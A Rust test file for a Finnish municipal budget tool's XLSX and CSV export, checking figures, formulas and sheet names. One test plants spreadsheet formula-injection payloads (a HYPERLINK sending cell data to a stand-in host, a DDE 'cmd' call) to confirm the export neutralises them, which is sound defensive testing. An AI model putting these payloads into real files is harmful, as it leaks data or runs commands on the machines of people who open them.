//! Exports read back: the XLSX workbook (calamine) has the figures of the documents to the
//! cent, subtotals and derived columns as formulas that give the same values, the scenario's
//! edits and the source stated; text a spreadsheet would take for a formula is neutralised.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeMap;
use std::io::Cursor;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use raami::analysis::node_table;
use raami::export::{About, Exported, workbook};
use raami::i18n::Lang;
use raami::import::{Options, import_file};
use raami::scenario::spec::parse_edit;
use raami::scenario::{Scenario, apply};

/// The cells of one sheet by their A1 name: values, and formulas where there are any.
struct Sheet {
    values: BTreeMap<String, Data>,
    formulas: BTreeMap<String, String>,
}

fn a1(row: u32, column: u32) -> String {
    let mut letters = String::new();
    let mut c = column;
    loop {
        letters.insert(0, char::from(b'A' + u8::try_from(c % 26).unwrap()));
        if c < 26 {
            break;
        }
        c = c / 26 - 1;
    }
    format!("{letters}{}", row + 1)
}

fn read(bytes: &[u8]) -> (Vec<String>, BTreeMap<String, Sheet>) {
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let names = book.sheet_names();
    let mut sheets = BTreeMap::new();
    for name in &names {
        let range = book.worksheet_range(name).unwrap();
        let (r0, c0) = range.start().unwrap_or((0, 0));
        let mut values = BTreeMap::new();
        for (r, row) in range.rows().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                if *cell != Data::Empty {
                    let (r, c) = (
                        r0 + u32::try_from(r).unwrap(),
                        c0 + u32::try_from(c).unwrap(),
                    );
                    values.insert(a1(r, c), cell.clone());
                }
            }
        }
        let formula_range = book.worksheet_formula(name).unwrap();
        let (f0, g0) = formula_range.start().unwrap_or((0, 0));
        let mut formulas = BTreeMap::new();
        for (r, row) in formula_range.rows().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                if !cell.is_empty() {
                    let (r, c) = (
                        f0 + u32::try_from(r).unwrap(),
                        g0 + u32::try_from(c).unwrap(),
                    );
                    formulas.insert(a1(r, c), cell.clone());
                }
            }
        }
        sheets.insert(name.clone(), Sheet { values, formulas });
    }
    (names, sheets)
}

fn float(data: &Data) -> f64 {
    match data {
        Data::Float(f) => *f,
        Data::Int(i) => *i as f64,
        other => panic!("not a number: {other:?}"),
    }
}

/// A percentage cell as printed, to two decimals (a stored 0.649151… reads 64.92).
fn percent(data: &Data) -> f64 {
    (float(data) * 10_000.0).round() / 100.0
}

/// The first sheet of a workbook, read back, with its name.
fn first_sheet(book: &[u8]) -> (String, Sheet) {
    let (names, mut sheets) = read(book);
    let name = names[0].clone();
    let sheet = sheets.remove(&name).unwrap();
    (name, sheet)
}

/// The sheet of one node's statement in a workbook of it alone, with the sheet's name.
fn statement_sheet(
    dataset: &raami::model::Dataset,
    table: &raami::analysis::NodeTable,
) -> (String, Sheet) {
    let book = workbook(&[Exported { dataset, table }], &About::default(), Lang::Fi).unwrap();
    first_sheet(&book)
}

/// The sheet of one view's table in a workbook of it alone, with the sheet's name.
fn grid_sheet(grid: raami::export::Grid) -> (String, Sheet) {
    let book = raami::export::workbook_with(&[], &[grid], &About::default(), Lang::Fi).unwrap();
    first_sheet(&book)
}

/// Evaluates the formulas the export writes (sums and differences of cells, a ratio, a
/// ratio less one, a yearly rate) from the sheet's values.
fn evaluate(sheet: &Sheet, formula: &str) -> f64 {
    let cell = |name: &str| float(&sheet.values[name.trim()]);
    let f = formula.trim_start_matches('=');
    if let Some(rest) = f.strip_prefix('(') {
        // (T/B)^(1/n)-1
        let (ratio, power) = rest.split_once(")^(1/").unwrap();
        let (t, b) = ratio.split_once('/').unwrap();
        let n: f64 = power.trim_end_matches(")-1").parse().unwrap();
        return (cell(t) / cell(b)).powf(1.0 / n) - 1.0;
    }
    if let Some((t, b)) = f.split_once('/') {
        return match b.strip_suffix("-1") {
            Some(b) => cell(t) / cell(b) - 1.0,
            None => cell(t) / cell(b),
        };
    }
    // Terms joined by + and -.
    let mut total = 0.0;
    let mut sign = 1.0;
    let mut term = String::new();
    for ch in f.chars().chain(std::iter::once('+')) {
        match ch {
            '+' | '-' => {
                if !term.is_empty() {
                    total += sign * cell(&term);
                    term.clear();
                }
                sign = if ch == '-' { -1.0 } else { 1.0 };
            }
            other => term.push(other),
        }
    }
    total
}

/// The row of a line by its name in column A.
fn row_of(sheet: &Sheet, name: &str) -> String {
    row_in(sheet, 'A', name)
}

/// The row where `column` holds `text`.
fn row_in(sheet: &Sheet, column: char, text: &str) -> String {
    sheet
        .values
        .iter()
        .find(|(at, v)| {
            at.starts_with(column)
                && at[1..].starts_with(|c: char| c.is_ascii_digit())
                && **v == Data::String(text.to_string())
        })
        .map(|(at, _)| at[1..].to_string())
        .unwrap_or_else(|| panic!("no {text} in column {column}"))
}

#[test]
fn the_workbook_has_the_documents_figures_live_formulas_and_the_scenario() {
    let sample = raami::sample::heinola().unwrap();
    let edit = parse_edit(&sample, "Varhaiskasvatus:Palvelujen ostot:TS2026:-5%").unwrap();
    let scenario = Scenario {
        edits: vec![edit],
        ..Scenario::new("Säästöt", &sample)
    };
    let applied = apply(&sample, &scenario);
    let sentences =
        raami::scenario::summary::sentences(&sample, &scenario.edits, &applied.outcomes, Lang::Fi);
    // With the change columns the app shows by default (the first column to the last).
    let table = |node: &str| {
        raami::analysis::table::node_table_as_shown(&applied.dataset, node, None, None)
    };
    let varhais = table("varhaiskasvatus");
    let top = table("hyvinvointitoimiala");
    let about = About {
        unit: "€".into(),
        scenario: Some(("Säästöt".into(), sentences)),
        link: Some("https://raami.example.fi/#/taulukko/heinola/varhaiskasvatus".into()),
        ..About::default()
    };
    let bytes = workbook(
        &[
            Exported {
                dataset: &applied.dataset,
                table: &varhais,
            },
            Exported {
                dataset: &applied.dataset,
                table: &top,
            },
        ],
        &about,
        Lang::Fi,
    )
    .unwrap();
    let (names, sheets) = read(&bytes);
    assert_eq!(
        names,
        [
            "Varhaiskasvatus",
            "Hyvinvointitoimiala",
            "Muutokset ja huomautukset",
            "Lähde ja perusta"
        ]
    );
    let sheet = &sheets["Varhaiskasvatus"];
    // Header: Selite, TP 2022, TA 2023, TA 2024, TS 2025, TS 2026 (B … F).
    assert_eq!(sheet.values["F5"], Data::String("TS 2026".into()));
    // Seed 004, Varhaiskasvatus TS 2026: Palvelujen ostot −1 029 300, −5 % = 51 465 less.
    let ostot = row_of(sheet, "Palvelujen ostot");
    assert_eq!(float(&sheet.values[&format!("F{ostot}")]), -977_835.0);
    assert_eq!(float(&sheet.values[&format!("B{ostot}")]), -1_082_747.0);
    // Toimintakulut TS 2026 −8 721 800 + 51 465, a formula of its parts.
    let kulut = row_of(sheet, "Toimintakulut");
    let cell = format!("F{kulut}");
    assert_eq!(float(&sheet.values[&cell]), -8_670_335.0);
    assert!(
        sheet.formulas.contains_key(&cell),
        "Toimintakulut TS 2026 is a formula"
    );
    // Toimintakate TS 2026: −8 232 700 + 51 465.
    let kate = row_of(sheet, "Toimintakate");
    assert_eq!(float(&sheet.values[&format!("F{kate}")]), -8_181_235.0);
    // Toimintatuotot TP 2022 is printed 955 046 while its parts sum to 955 047: the
    // document's figure stays, as a number, not as a formula that would change it.
    let tuotot = row_of(sheet, "Toimintatuotot");
    assert_eq!(float(&sheet.values[&format!("B{tuotot}")]), 955_046.0);
    assert!(!sheet.formulas.contains_key(&format!("B{tuotot}")));
    // Every formula gives the value it carries.
    let mut checked = 0;
    for sheet in sheets.values() {
        for (at, formula) in &sheet.formulas {
            let cached = float(&sheet.values[at]);
            let computed = evaluate(sheet, formula);
            assert!(
                (cached - computed).abs() <= 1e-9 * cached.abs().max(1.0),
                "{at} {formula}: {cached} vs {computed}"
            );
            checked += 1;
        }
    }
    assert!(checked > 100, "{checked} formulas");
    // The edits and the source.
    let edits = &sheets["Muutokset ja huomautukset"];
    assert_eq!(
        edits.values["A1"],
        Data::String("Skenaario: Säästöt".into())
    );
    let Data::String(sentence) = &edits.values["B2"] else {
        panic!()
    };
    assert!(
        sentence
            .replace('\u{a0}', " ")
            .starts_with("1. Varhaiskasvatus, Palvelujen ostot, TS 2026: −5 %"),
        "{sentence}"
    );
    let source = &sheets["Lähde ja perusta"];
    assert!(
        source.values.values().any(
            |v| matches!(v, Data::String(s) if s.contains("#/taulukko/heinola/varhaiskasvatus"))
        )
    );
}

/// Seed 003 (the service area's statement with its budget follow-up), as imported.
fn seed_003() -> raami::model::Dataset {
    let name = "003_057b7abbdb0e3ebc.txt";
    let bytes = std::fs::read(format!("tests/fixtures/{name}")).unwrap();
    import_file(name, &bytes, &Options::default())
        .unwrap()
        .remove(0)
        .dataset
}

#[test]
fn poikkeama_and_toteuma_are_formulas_of_the_follow_up() {
    // Seed 003, Vaalit: Toimintakate TA 2025 −88 400, Toteuma 2025 −57 385, printed
    // Poikkeama −31 015 and Toteuma % 64,92.
    let dataset = seed_003();
    let table = node_table(&dataset, "vaalit", None);
    let (_, sheet) = statement_sheet(&dataset, &table);
    let sheet = &sheet;
    let row = row_of(sheet, "Toimintakate");
    let header = |at: &str| match &sheet.values[&format!("{at}5")] {
        Data::String(s) => s.clone(),
        other => panic!("{other:?}"),
    };
    let poikkeama = (b'B'..=b'H')
        .map(char::from)
        .find(|c| header(&c.to_string()).starts_with("Poikkeama"))
        .unwrap();
    let cell = format!("{poikkeama}{row}");
    assert_eq!(float(&sheet.values[&cell]), -31_015.0);
    assert!(sheet.formulas.contains_key(&cell));
    assert_eq!(evaluate(sheet, &sheet.formulas[&cell]), -31_015.0);
    let pct = format!("{}{row}", char::from(u8::try_from(poikkeama).unwrap() + 1));
    assert_eq!(percent(&sheet.values[&pct]), 64.92);
    assert!(sheet.formulas.contains_key(&pct));
}

#[test]
fn cents_survive_the_csv_and_the_workbook() {
    // Kauhava's income statement 2024 prints Verotulot TP 2024 33 595 351,41.
    let name = "kauhava-tilinpaatos-2024-tuloslaskelma.txt";
    let bytes = std::fs::read(format!("tests/fixtures/real/{name}")).unwrap();
    let dataset = import_file(name, &bytes, &Options::default())
        .unwrap()
        .remove(0)
        .dataset;
    let root = dataset.roots().next().unwrap().id.clone();
    let table = node_table(&dataset, &root, None);
    let csv = raami::report::table_csv(&table, Lang::Fi);
    assert!(
        csv.lines()
            .any(|l| l.starts_with("Verotulot;") && l.contains(";33595351,41")),
        "{csv}"
    );
    let (_, sheet) = statement_sheet(&dataset, &table);
    let sheet = &sheet;
    let row = row_of(sheet, "Verotulot");
    let value = sheet
        .values
        .iter()
        .filter(|(at, _)| at[1..] == row && !at.starts_with('A'))
        .map(|(_, v)| float(v))
        .find(|v| (v - 33_595_351.41).abs() < 0.001)
        .unwrap();
    // The double that comes back prints as the decimal the document has.
    assert_eq!(value.to_string(), "33595351.41");
}

#[test]
fn text_a_spreadsheet_would_run_is_neutralised() {
    let mut dataset = raami::sample::heinola().unwrap();
    let hostile = "=HYPERLINK(\"http://paha.example/?\"&A1,\"klikkaa\")";
    dataset.name = hostile.to_string();
    dataset.source = Some("+cmd|' /C calc'!A0".to_string());
    if let Some(node) = dataset.org.iter_mut().find(|n| n.id == "varhaiskasvatus") {
        node.name = "@SUM(1+1)".to_string();
    }
    let table = node_table(&dataset, "varhaiskasvatus", None);
    let about = About {
        notes: vec![("-Varhaiskasvatus".into(), "=1+1".into())],
        ..About::default()
    };
    let book = workbook(
        &[Exported {
            dataset: &dataset,
            table: &table,
        }],
        &about,
        Lang::Fi,
    )
    .unwrap();
    let (names, sheets) = read(&book);
    // The texts are text cells, not formulas, with the quote prefix Excel keeps them by.
    for sheet in sheets.values() {
        for formula in sheet.formulas.values() {
            assert!(
                !formula.contains("HYPERLINK") && !formula.contains("cmd"),
                "{formula}"
            );
        }
    }
    let notes = &sheets["Muutokset ja huomautukset"];
    assert!(
        notes
            .values
            .values()
            .any(|v| *v == Data::String("=1+1".into()))
    );
    assert_eq!(names[0], "@SUM(1+1)");
    let archive = zip::ZipArchive::new(Cursor::new(book.clone())).unwrap();
    let mut archive = archive;
    let mut styles = String::new();
    std::io::Read::read_to_string(&mut archive.by_name("xl/styles.xml").unwrap(), &mut styles)
        .unwrap();
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    // In CSV the same texts get a ' in front; numbers keep their minus.
    assert_eq!(raami::export::neutralise(hostile), format!("'{hostile}"));
    let csv = raami::report::table_csv(&table, Lang::Fi);
    assert!(
        csv.lines()
            .any(|l| l.starts_with("Palvelujen ostot;-1082747;")),
        "{csv}"
    );
}

#[test]
fn the_breakdown_view_exports_as_shown() {
    use raami::analysis::breakdown::{SortBy, breakdown, sorted};
    use raami::model::Line;
    // Seed 004, Hyvinvointitoimiala, Henkilöstökulut TS 2026: −20 592 300 in all, of which
    // Opetus- ja koulutuspalvelut 59,37 %.
    let sample = raami::sample::heinola().unwrap();
    let result = breakdown(
        &sample,
        "hyvinvointitoimiala",
        Line::Henkilostokulut,
        "TS2026",
        Some("TP2022"),
    );
    let rows = sorted(result.rows.clone(), SortBy::Amount);
    let grid = raami::export::breakdown_grid(
        "Hyvinvointitoimiala",
        Line::Henkilostokulut,
        "TS 2026",
        Some("TP 2022"),
        &result,
        &rows,
        "€",
        Lang::Fi,
    );
    let csv = raami::export::grid_csv(&grid, Lang::Fi);
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0],
        "Yksikkö;TS 2026;Osuus %;Muutos € TP 2022 → TS 2026;Muutos % TP 2022 → TS 2026"
    );
    assert!(
        lines[1].starts_with("Opetus- ja koulutuspalvelut;"),
        "{csv}"
    );
    assert!(lines[1].contains(";59,37;"), "{csv}");
    assert_eq!(
        *lines.last().unwrap(),
        "Yhteensä: Hyvinvointitoimiala;-20592300;100"
    );
    let (name, sheet) = grid_sheet(grid);
    assert_eq!(name, "Hyvinvointitoimiala");
    let sheet = &sheet;
    assert_eq!(
        sheet.values["A6"],
        Data::String("Opetus- ja koulutuspalvelut".into())
    );
    assert_eq!(percent(&sheet.values["C6"]), 59.37);
    let total = row_of(sheet, "Yhteensä: Hyvinvointitoimiala");
    assert_eq!(float(&sheet.values[&format!("B{total}")]), -20_592_300.0);
}

#[test]
fn the_follow_up_view_exports_as_shown() {
    use raami::analysis::followup::follow_up_rows;
    // Seed 003, Vaalit: Toimintakate TA 2025 −88 400, Toteuma 2025 −57 385, Poikkeama
    // −31 015, Toteuma % 64,92; better than budgeted by 31 015.
    let dataset = seed_003();
    let table = node_table(&dataset, "vaalit", None);
    let rows = follow_up_rows(&table, 0);
    let pair = &table.follow_ups[0];
    let grid = raami::export::follow_up_grid(
        "Vaalit",
        &pair.budget.label(Lang::Fi),
        &pair.actual.label(Lang::Fi),
        &rows,
        "€",
        Lang::Fi,
    );
    let csv = raami::export::grid_csv(&grid, Lang::Fi);
    assert!(
        csv.lines()
            .any(|l| l == "Toimintakate;-88400;-57385;-31015;64,92;parempi kuin talousarvio;31015"),
        "{csv}"
    );
    let (_, sheet) = grid_sheet(grid);
    let sheet = &sheet;
    let row = row_of(sheet, "Toimintakate");
    assert_eq!(float(&sheet.values[&format!("D{row}")]), -31_015.0);
    assert_eq!(percent(&sheet.values[&format!("E{row}")]), 64.92);
}

#[test]
fn the_line_across_view_exports_as_shown() {
    use raami::analysis::across::{Measure, across};
    use raami::model::Line;
    // Seed 004: Henkilöstökulut TS 2026, Hyvinvointitoimiala −20 592 300 and Varhaiskasvatus
    // −6 246 500 (TP 2022 −18 964 212 and −5 903 322).
    let sample = raami::sample::heinola().unwrap();
    let (columns, rows) = across(&sample, Line::Henkilostokulut, Measure::Amount);
    let grid = raami::export::across_grid(
        &sample.name,
        Line::Henkilostokulut,
        Measure::Amount,
        &columns,
        &rows,
        "€",
        Lang::Fi,
    );
    let csv = raami::export::grid_csv(&grid, Lang::Fi);
    assert!(
        csv.lines().any(
            |l| l == "Hyvinvointitoimiala;-18964212;-19356600;;-19327000;;;-20027800;-20592300"
        ),
        "{csv}"
    );
    assert!(
        csv.lines()
            .any(|l| l == "  Varhaiskasvatus;-5903322;-6211300;;-5974300;;;-6059200;-6246500"),
        "{csv}"
    );
    let (name, sheet) = grid_sheet(grid);
    assert_eq!(name, "Henkilöstökulut");
    let sheet = &sheet;
    let row = row_of(sheet, "  Varhaiskasvatus");
    // The sample's columns run TP 2022 … TS 2026 (the follow-up's among them): TS 2026 is I.
    assert_eq!(sheet.values["I5"], Data::String("TS 2026".into()));
    assert_eq!(float(&sheet.values[&format!("I{row}")]), -6_246_500.0);
}

#[test]
fn the_comparison_exports_as_shown() {
    // Seed 004, Varhaiskasvatus TS 2026: Toimintakate −8 232 700; Palvelujen ostot −5 %
    // (51 465 less) makes it −8 181 235.
    let sample = raami::sample::heinola().unwrap();
    let edit = parse_edit(&sample, "Varhaiskasvatus:Palvelujen ostot:TS2026:-5%").unwrap();
    let scenario = Scenario {
        edits: vec![edit],
        ..Scenario::new("Säästöt", &sample)
    };
    let comparison =
        raami::scenario::compare::compare(&sample, &[&scenario], "varhaiskasvatus", "TS2026", None);
    let grid = raami::export::compare_grid("Varhaiskasvatus", "TS 2026", &comparison, Lang::Fi);
    let csv = raami::export::grid_csv(&grid, Lang::Fi);
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0],
        "Rivi;Perustiedot;Säästöt;Säästöt: ero;Säästöt: ero %"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("Toimintakate;-8232700;-8181235;51465;")),
        "{csv}"
    );
    let (_, sheet) = grid_sheet(grid);
    let sheet = &sheet;
    let row = row_of(sheet, "Toimintakate");
    assert_eq!(float(&sheet.values[&format!("D{row}")]), 51_465.0);
}

#[test]
fn the_goals_view_exports_as_shown() {
    // Seed 003, Yhteiset palvelut: four council goals (Toteutuu, Toteutuu, Toteutuu
    // osittain, Toteutuu) and four of the operating plan (Toteutuu osittain, Toteutuu,
    // Toteutuu, Toteutuu); five projects, 818 629 € in all (RELE 176 987, city's share 25 %,
    // 50 % spent); Irtain omaisuus Menot TP2024 −369 498, TA 2025 −195 000, Toteuma −38 279,
    // Poikkeama −156 721, Toteuma % 19,6; six risks, the first Henkilöriskit at
    // todennäköisyys 1 and merkittävyys 2.
    let sample = raami::sample::heinola().unwrap();
    let grids = raami::export::goals::goals_grids(&sample, "yhteiset_palvelut", "€", Lang::Fi);
    let sheets: Vec<&str> = grids.iter().map(|g| g.sheet.as_str()).collect();
    assert_eq!(
        sheets,
        [
            "Toteutuminen",
            "Tavoitteet",
            "Hankkeet",
            "Investoinnit",
            "Riskit"
        ]
    );
    let csv = raami::export::grids_csv(&grids, Lang::Fi);
    let lines: Vec<&str> = csv.lines().collect();
    assert!(lines.contains(&"Hyvinvoinnin kasvu;1;1;0;2"), "{csv}");
    assert!(lines.contains(&"Vahva kaupunkiyhteisö;1;1;0;2"), "{csv}");
    assert!(lines.contains(&"Kestävä talous;2;0;0;2"), "{csv}");
    assert!(lines.contains(&"Yhteensä;6;2;0;8"), "{csv}");
    assert!(lines.contains(&"Yhteensä;;;;818629"), "{csv}");
    assert!(
        lines.contains(
            &"Yhteiset palvelut;Irtain omaisuus;Menot;-369498;-195000;-38279;-156721;19,63"
        ),
        "{csv}"
    );
    assert!(
        lines.iter().any(
            |l| l.starts_with("Yhteiset palvelut;Henkilöriskit (osaamispuutteet")
                && l.contains(";1;2;2;Perehdyttäminen")
        ),
        "{csv}"
    );
    // Each table under its title, with an empty line between.
    assert!(csv.contains("\n\nTavoitteet: Yhteiset palvelut\n"), "{csv}");

    let book = raami::export::workbook_with(&[], &grids, &About::default(), Lang::Fi).unwrap();
    let (names, sheets) = read(&book);
    assert_eq!(
        names[..5],
        [
            "Toteutuminen",
            "Tavoitteet",
            "Hankkeet",
            "Investoinnit",
            "Riskit"
        ]
    );
    let goals = &sheets["Tavoitteet"];
    let statuses: Vec<&Data> = (6..14).map(|r| &goals.values[&format!("J{r}")]).collect();
    let s = |t: &str| Data::String(t.into());
    assert_eq!(
        statuses,
        [
            &s("Toteutuu"),
            &s("Toteutuu"),
            &s("Toteutuu osittain"),
            &s("Toteutuu"),
            &s("Toteutuu osittain"),
            &s("Toteutuu"),
            &s("Toteutuu"),
            &s("Toteutuu")
        ]
    );
    assert_eq!(float(&goals.values["C6"]), 2025.0);
    let projects = &sheets["Hankkeet"];
    let rele = row_in(
        projects,
        'B',
        "RELE - Ratkaisuja alueelliseen kestävyteen ja energiatehokkuuteen",
    );
    assert_eq!(float(&projects.values[&format!("E{rele}")]), 176_987.0);
    assert_eq!(percent(&projects.values[&format!("F{rele}")]), 25.0);
    assert_eq!(percent(&projects.values[&format!("G{rele}")]), 50.0);
    let total = row_of(projects, "Yhteensä");
    assert_eq!(float(&projects.values[&format!("E{total}")]), 818_629.0);
    let investments = &sheets["Investoinnit"];
    let menot = row_in(investments, 'C', "Menot");
    let headers: Vec<String> = ["D", "E", "F", "G", "H"]
        .iter()
        .map(|c| match &investments.values[&format!("{c}5")] {
            Data::String(s) => s.clone(),
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(headers[0], "TP 2024", "{headers:?}");
    assert_eq!(float(&investments.values[&format!("G{menot}")]), -156_721.0);
    assert_eq!(percent(&investments.values[&format!("H{menot}")]), 19.63);
    let risks = &sheets["Riskit"];
    assert_eq!(float(&risks.values["D6"]), 1.0);
    assert_eq!(float(&risks.values["E6"]), 2.0);
    assert_eq!(float(&risks.values["F6"]), 2.0);
}

#[test]
fn the_statements_workbook_has_the_nodes_other_views_after_it() {
    // Seed 003, Yhteiset palvelut: its statement, its follow-up (Henkilöstökulut TA 2025
    // −3 680 600, Toteuma −3 589 002, Poikkeama −91 598) and its goals view's tables.
    let request = raami::protocol::WorkbookRequest {
        dataset: raami::sample::heinola().unwrap(),
        nodes: vec!["yhteiset_palvelut".into()],
        change: None,
        about: About {
            unit: "€".into(),
            ..About::default()
        },
        lang: Lang::Fi,
        grids: Vec::new(),
        views: true,
    };
    let (names, sheets) = read(&request.make().unwrap());
    assert_eq!(
        names[..7],
        [
            "Yhteiset palvelut",
            "Toteuma 2025 Yhteiset palvel",
            "Toteutuminen",
            "Tavoitteet",
            "Hankkeet",
            "Investoinnit",
            "Riskit"
        ],
        "{names:?}"
    );
    let follow = &sheets["Toteuma 2025 Yhteiset palvel"];
    let row = row_of(follow, "Henkilöstökulut");
    assert_eq!(float(&follow.values[&format!("B{row}")]), -3_680_600.0);
    assert_eq!(float(&follow.values[&format!("C{row}")]), -3_589_002.0);
    assert_eq!(float(&follow.values[&format!("D{row}")]), -91_598.0);
    let total = row_in(&sheets["Toteutuminen"], 'A', "Yhteensä");
    assert_eq!(
        float(&sheets["Toteutuminen"].values[&format!("B{total}")]),
        6.0
    );
}
